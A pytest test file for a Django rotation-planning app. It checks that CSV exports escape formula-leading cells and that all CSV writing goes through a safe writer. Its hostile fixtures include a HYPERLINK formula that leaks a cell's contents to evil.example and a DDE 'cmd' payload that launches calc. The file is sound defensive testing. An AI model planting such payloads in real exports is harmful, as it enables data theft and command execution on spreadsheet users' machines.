"""Every CSV the product writes is formula-safe: a spreadsheet never runs a cell as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from rotations.exports.csvsafe import FORMULA_STARTS
from tests.commands import run_command
from tests.factories import (
    AssignmentFactory,
    DepartmentFactory,
    EmployeeFactory,
    HostingSlotFactory,
    RepFactory,
    RotationPlanFactory,
    SiteFactory,
)

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = {
    "shadower_name": '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "department": "+SUM(1;2)",
    "host_name": "@cmd|' /C calc'!A0",
    "site": "-2+3",
    "shadower_employee_id": "\t=1+1",
    "host_employee_id": "\r=1+1",
}


@pytest.mark.django_db
def test_every_exported_cell_starting_with_a_formula_character_is_escaped(tmp_path):
    site = SiteFactory.create(name=HOSTILE["site"])
    host = RepFactory.create(
        employee_id=HOSTILE["host_employee_id"], name=HOSTILE["host_name"], site=site
    )
    shadower = EmployeeFactory.create(
        employee_id=HOSTILE["shadower_employee_id"],
        name=HOSTILE["shadower_name"],
        department=DepartmentFactory.create(name=HOSTILE["department"]),
        site=site,
    )
    plan = RotationPlanFactory.create(name="Hostile")
    AssignmentFactory.create(
        plan=plan, shadower=shadower, slot=HostingSlotFactory.create(host=host)
    )
    target = tmp_path / "plan.csv"
    ran = run_command("export_plan", "Hostile", "--format", "csv", "--output", target)
    assert ran.error is None, ran.failure
    rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode(), newline="")))
    assert len(rows) == 1
    for column, value in HOSTILE.items():
        assert rows[0][column] == "'" + value, column
    for row in rows:
        for cell in [*row.keys(), *row.values()]:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_no_product_code_writes_csv_except_through_the_safe_writer():
    """A new export that calls csv.writer directly would bypass the escaping."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    allowed = {
        ROOT / "rotations/exports/csvsafe.py",
        # Builds CSV text in memory only to feed the import services, never a file for people.
        ROOT / "rotations/services/demo.py",
    }
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("rotations", "api", "web", "calendars", "optimizer", "program")
        if (ROOT / folder).is_dir()
        for path in (ROOT / folder).rglob("*.py")
        if path not in allowed and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
